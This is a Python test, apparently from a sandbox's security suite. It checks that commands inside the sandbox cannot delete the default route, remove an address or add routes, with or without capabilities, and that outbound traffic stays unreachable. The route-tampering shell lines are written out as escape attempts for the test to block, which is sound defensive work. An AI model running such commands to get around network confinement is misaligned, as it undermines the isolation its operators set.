    """The routes, addresses and nftables table belong to the sandbox's init:
    the command, without capabilities, gets EPERM; and so it does with its
    capabilities kept (a test build), because its user namespace is a
    nested one that does not own the network namespace."""
    script = ("ip route del default 2>&1; echo \"rc=$?\"; "
              "ip addr del 198.18.0.1/15 dev lo 2>&1; echo \"rc=$?\"; "
              "ip route add 203.0.113.0/24 dev lo 2>&1; echo \"rc=$?\"")
    variants = [()]
    opts = disable_layers(sb, "caps,seccomp")
    if opts:
        variants.append(opts)
    for opt in variants:
        p = sb.run(*opt, "--", "sh", "-c", script)
        runs = runs_of(p)
        assert [r[0] for r in runs] == [2, 2, 2], (opt, p.stdout, p.stderr)
        assert all("Operation not permitted" in r[1] for r in runs), (opt, p.stdout)
        p = sb.run(*opt, "--", egress_lab.PY, "-c", NO_ROUTE)
        assert p.stdout == "EHOSTUNREACH\n", (opt, p.stdout, p.stderr)

